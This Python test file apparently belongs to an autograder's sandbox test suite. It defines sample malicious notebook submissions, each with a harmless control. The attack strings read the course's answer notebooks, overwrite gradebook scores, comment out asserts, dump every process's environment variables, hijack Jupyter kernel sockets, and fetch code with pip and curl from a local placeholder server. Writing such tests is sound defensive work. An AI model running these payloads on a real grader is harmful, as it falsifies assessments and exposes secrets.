"""Attacks on what is outside: the network, the course's files, processes, the kernel's sockets."""

from __future__ import annotations

from tests.attacks.odd_files import file_beside
from tests.attacks.submissions import Attack, HandedIn, calling, python

ASK_OUTSIDE = """
from urllib.request import urlopen
return int(urlopen(f'http://127.0.0.1:@PORT@/{a}/{b}', timeout=2).read())
"""
PIP = """
import subprocess, sys
subprocess.run([sys.executable, '-m', 'pip', 'download', '--retries=0', '--timeout=2', '--no-deps',
                '--index-url=http://127.0.0.1:@PORT@/', '--dest=/tmp', 'helpful'], timeout=60)
subprocess.run('curl --silent --max-time 2 http://127.0.0.1:@PORT@/', shell=True)
"""
READ_SOURCE = """
import glob, re
for place in ('@COURSE@', '../../..', '/proc/1/cwd', '/proc/1/root@COURSE@'):
    for path in glob.glob(f'{place}/source/numbers/*.ipynb'):
        print(open(path).read())
        found = re.search(r'add\\(%d, %d\\) == (-?\\d+)' % (a, b), open(path).read())
        if found:
            return int(found[1])
"""
CHANGE_GRADEBOOK = """
import glob, sqlite3
for path in glob.glob('@COURSE@/gradebook.db') + glob.glob('../../../gradebook.db'):
    with sqlite3.connect(path) as database:
        database.execute('UPDATE grade SET manual_score = 1000')
        database.execute('UPDATE grade_cells SET max_score = 1000')
"""
CHANGE_SOURCE = """
import glob
for path in glob.glob('@COURSE@/source/numbers/*.ipynb'):
    text = open(path).read().replace('assert', '# assert')
    open(path, 'w').write(text)
"""
READ_PROCESSES = """
import glob
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        print(path, open(path, errors='replace').read())
    except OSError:
        pass
"""
SWAP_SOCKETS = """
import os
application = get_ipython().kernel.parent
for name in ('shell', 'iopub', 'stdin', 'control', 'hb'):
    path = f"{application.ip}-{getattr(application, name + '_port')}"
    try:
        os.unlink(path)
        os.symlink('@OUTSIDE@/socket', path)
    except OSError as error:
        print(error)
"""
DROP_CHANNEL = f"""{SWAP_SOCKETS}
thread = application.iopub_thread
thread.schedule(thread.socket.close)
"""

ATTACKS = (
    Attack(
        21,
        "asks_outside",
        "asks a server for the answer",
        calling(ASK_OUTSIDE),
        calling("from urllib.parse import quote\nquote('a b')", "a + b"),
        "CC++",
    ),
    Attack(
        21,
        "installs",
        "pip and curl",
        python(PIP, wrong=False),
        python("import importlib.metadata\nimportlib.metadata.version('pip')", wrong=False),
    ),
    Attack(
        22,
        "reads_source",
        "looks the answer up in the source notebook",
        calling(READ_SOURCE),
        HandedIn(
            {"add": "def add(a, b):\n    return a + b + int(open('data.txt').read()) - 3"},
            place=file_beside,
        ),
        "FF++",
    ),
    Attack(
        22,
        "changes_gradebook",
        "gives the whole class 1000 points a claim",
        python(CHANGE_GRADEBOOK),
        python("import sqlite3\nsqlite3.connect(':memory:').close()", wrong=False),
        "FF++",
    ),
    Attack(
        22,
        "changes_source",
        "comments the source's asserts out",
        python(CHANGE_SOURCE),
        python("open('own.txt', 'w').close()", wrong=False),
        "FF++",
    ),
    Attack(
        22,
        "reads_processes",
        "reads the environment and arguments of all processes",
        python(READ_PROCESSES, wrong=False),
        python("import os\nlen(os.environ)", wrong=False),
    ),
    Attack(
        23,
        "swaps_sockets",
        "puts links in place of the kernel's sockets",
        python(SWAP_SOCKETS, wrong=False),
        python("print(get_ipython().kernel.parent.ip)", wrong=False),
    ),
    Attack(
        23,
        "drops_channel",
        "and closes one, so that the client connects anew",
        python(DROP_CHANNEL),
        python("print(get_ipython().kernel.parent.ip)", wrong=False),
        "xx++",
    ),
)
